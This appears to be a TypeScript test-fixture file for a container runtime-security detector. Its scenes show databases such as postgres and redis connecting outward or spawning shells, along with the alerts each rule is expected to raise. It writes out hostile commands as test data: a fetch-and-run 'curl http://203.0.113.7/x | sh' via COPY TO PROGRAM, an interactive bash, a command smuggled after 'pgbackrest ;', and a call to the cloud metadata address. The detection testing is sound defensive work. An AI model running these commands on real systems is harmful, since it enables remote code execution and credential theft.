// SPDX-License-Identifier: Apache-2.0
import {
  ContainerBuilder,
  connectTcp,
  connectUnix,
  type Endpoint,
  sendDatagram,
  socketAddress,
} from "@vendorless/builders";
import { inside, onHost, type Scene } from "./scene.ts";

const CONNECTED = "Database connected outward";
const SHELL = "Database or in-memory store spawned a shell";

const postgres = (): ContainerBuilder =>
  new ContainerBuilder("postgres:16", {
    comm: "postgres",
    exe: "postgres: checkpointer",
    exePath: "/usr/lib/postgresql/16/bin/postgres",
    uid: 999,
  });

const redis = (): ContainerBuilder =>
  new ContainerBuilder("redis:7", {
    comm: "redis-server",
    exe: "redis-server *:6379",
    exePath: "/usr/local/bin/redis-server",
    uid: 999,
  });

const mongod = (): ContainerBuilder =>
  new ContainerBuilder("mongo:7", { comm: "conn12", exePath: "/usr/bin/mongod", uid: 999 });

const HERE: Endpoint = ["172.17.0.2", 41_000];
const HERE_6: Endpoint = ["fd00::2", 41_000];

const connects = (from: Endpoint, to: Endpoint, pending = false) =>
  inside(postgres, ({ main }) => connectTcp(main, from, to, { pending }));

const runs = (make: () => ContainerBuilder, exe: string, args: string[]) =>
  inside(make, ({ main }) => void main.spawn({ exe, args }));

export const stores: readonly Scene[] = [
  {
    name: "postgres connects by IPv4",
    rule: CONNECTED,
    shows: [
      "connection=172.17.0.2:41000->93.184.216.34:443 ",
      "protocol=tcp",
      "program=postgres",
      "user=postgres uid=999",
      "container=postgres",
      "id=706f73746772",
      "image=postgres tag=16",
    ],
    capture: connects(HERE, ["93.184.216.34", 443]),
  },
  {
    name: "postgres connects by IPv6",
    rule: CONNECTED,
    shows: ["connection=fd00::2:41000->2001:db8::7:443 ", "protocol=tcp"],
    capture: connects(HERE_6, ["2001:db8::7", 443]),
  },
  {
    name: "postgres connects without waiting, as libpq does",
    rule: CONNECTED,
    shows: ["->10.1.2.3:5432 "],
    capture: connects(HERE, ["10.1.2.3", 5432], true),
  },
  {
    name: "postgres asks the cloud's metadata service",
    rule: CONNECTED,
    shows: ["->169.254.169.254:80 "],
    capture: connects(HERE, ["169.254.169.254", 80]),
  },
  {
    name: "postgres sends a datagram",
    rule: CONNECTED,
    shows: ["connection=172.17.0.2:41000->93.184.216.34:514 ", "protocol=udp"],
    capture: inside(postgres, ({ main }) => sendDatagram(main, HERE, ["93.184.216.34", 514])),
  },
  {
    name: "postgres sends a datagram by IPv6",
    rule: CONNECTED,
    shows: ["connection=fd00::2:41000->2001:db8::7:514 ", "protocol=udp"],
    capture: inside(postgres, ({ main }) => sendDatagram(main, HERE_6, ["2001:db8::7", 514])),
  },
  {
    name: "postgres sends by TCP without connecting first (fast open)",
    rule: CONNECTED,
    shows: ["->93.184.216.34:443 ", "protocol=tcp"],
    capture: inside(postgres, ({ main }) => {
      const tuple = { from: HERE, to: ["93.184.216.34", 443] as Endpoint };
      main
        .event("socket", { fd: 7, domain: "AF_INET", type: 1, proto: 6 })
        .event("sendto", { res: 4, data: "data", fd: 7, size: 4, tuple });
    }),
  },
  {
    name: "a connection was refused",
    rule: CONNECTED,
    capture: inside(postgres, ({ main }) => {
      const to: Endpoint = ["93.184.216.34", 443];
      main
        .event("socket", { fd: 7, domain: "AF_INET", type: 1, proto: 6 })
        .event("connect", { res: -111, tuple: { from: HERE, to }, fd: 7, addr: socketAddress(to) });
    }),
  },
  {
    name: "memcached answers strangers by datagrams",
    rule: CONNECTED,
    capture: inside(
      () => new ContainerBuilder("memcached:1", { comm: "memcached" }),
      ({ main }) => {
        const own: Endpoint = ["172.17.0.2", 11_211];
        const sent = { res: 4, data: "data", fd: 8, size: 4 };
        main
          .event("socket", { fd: 8, domain: "AF_INET", type: 2, proto: 17 })
          .event("bind", { res: 0, addr: socketAddress(["0.0.0.0", 11_211]), fd: 8 });
        for (const stranger of [["203.0.113.7", 5000] as Endpoint, ["203.0.113.8", 5001] as Endpoint]) {
          main
            .event("recvfrom", { ...sent, tuple: { from: stranger, to: own } })
            .event("sendto", { ...sent, tuple: { from: own, to: stranger } });
        }
      },
    ),
  },
  {
    name: "a renamed thread of mongod connects",
    rule: CONNECTED,
    shows: ["path=/usr/bin/mongod"],
    capture: inside(mongod, ({ main }) => connectTcp(main, HERE, ["93.184.216.34", 443])),
  },
  {
    name: "loopback by IPv4",
    rule: CONNECTED,
    capture: connects(["127.0.0.1", 41_000], ["127.0.0.1", 5432]),
  },
  { name: "loopback by IPv6", rule: CONNECTED, capture: connects(["::1", 41_000], ["::1", 5432]) },
  {
    name: "loopback by IPv4 in IPv6",
    rule: CONNECTED,
    capture: connects(["::ffff:7f00:1", 41_000], ["::ffff:7f00:1", 5432]),
  },
  {
    name: "a unix socket",
    rule: CONNECTED,
    capture: inside(postgres, ({ main }) => connectUnix(main, "/var/run/postgresql/.s.PGSQL.5432")),
  },
  {
    name: "a name server is asked",
    rule: CONNECTED,
    capture: inside(postgres, ({ main }) => sendDatagram(main, HERE, ["10.96.0.10", 53])),
  },
  {
    name: "a backup tool that PostgreSQL started connects",
    rule: CONNECTED,
    capture: inside(postgres, ({ main }) =>
      connectTcp(main.spawn({ exe: "/usr/bin/wal-g" }), HERE, ["52.1.1.1", 443]),
    ),
  },
  {
    name: "members of a cluster of Redis call each other",
    rule: CONNECTED,
    capture: inside(redis, ({ main }) => connectTcp(main, HERE, ["10.2.3.4", 16_379])),
  },
  {
    name: "Redis is told to replicate from the internet",
    rule: CONNECTED,
    shows: ["->93.184.216.34:6379 ", "program=redis-server"],
    capture: inside(redis, ({ main }) => connectTcp(main, HERE, ["93.184.216.34", 6379])),
  },
  {
    name: "postgres on the host connects",
    rule: CONNECTED,
    capture: onHost((capture) =>
      connectTcp(capture.process({ comm: "postgres" }), HERE, ["93.184.216.34", 443]),
    ),
  },
  {
    name: "redis-server runs sh -c",
    rule: SHELL,
    shows: [
      "command=sh -c id ",
      "path=/bin/sh",
      "parent=redis-server",
      "user=redis uid=999",
      "container=redis",
      "id=726564697300",
      "image=redis tag=7",
    ],
    capture: runs(redis, "/bin/sh", ["-c", "id"]),
  },
  {
    name: "redis-server runs a shell through another program",
    rule: SHELL,
    shows: ["command=bash -i ", "parent=x "],
    capture: inside(
      redis,
      ({ main }) => void main.spawn({ exe: "/tmp/x" }).spawn({ exe: "/bin/bash", args: ["-i"] }),
    ),
  },
  {
    name: "redis-server runs a shell under another name",
    rule: SHELL,
    shows: ["command=x -c id ", "path=/usr/bin/dash"],
    capture: inside(
      redis,
      ({ main }) => void main.spawn({ exe: "/tmp/x", args: ["-c", "id"], exePath: "/usr/bin/dash" }),
    ),
  },
  {
    name: "redis-server runs busybox's shell",
    rule: SHELL,
    shows: ["command=busybox sh -c id "],
    capture: runs(redis, "/bin/busybox", ["sh", "-c", "id"]),
  },
  {
    name: "COPY … TO PROGRAM",
    rule: SHELL,
    shows: ["command=sh -c curl http://203.0.113.7/x | sh ", "parent=postgres"],
    capture: runs(postgres, "/bin/sh", ["-c", "curl http://203.0.113.7/x | sh"]),
  },
  {
    name: "a command that only begins like an archiver",
    rule: SHELL,
    shows: ["pgbackrest ; id"],
    capture: runs(postgres, "/bin/sh", ["-c", "pgbackrest ; id"]),
  },
  {
    name: "redis-server runs a program that is no shell",
    rule: SHELL,
    capture: runs(redis, "/bin/busybox", ["ls"]),
  },
  {
    name: "postgres archives its log",
    rule: SHELL,
    capture: runs(postgres, "/bin/sh", [
      "-c",
      "pgbackrest --stanza=db archive-push pg_wal/000000010000000000000001",
    ]),
  },
  {
    name: "CloudNativePG archives its log",
    rule: SHELL,
    capture: runs(postgres, "/bin/sh", [
      "-c",
      "--",
      "/controller/manager wal-archive --log-destination /x pg_wal/1",
    ]),
  },
  {
    name: "a member of a Galera cluster gives its state to a new one",
    rule: SHELL,
    capture: runs(() => new ContainerBuilder("mariadb:11", { comm: "mariadbd", uid: 999 }), "/bin/sh", [
      "-c",
      "wsrep_sst_mariabackup --role 'donor' --address '10.0.0.2:4444/xtrabackup_sst//1'",
    ]),
  },
];
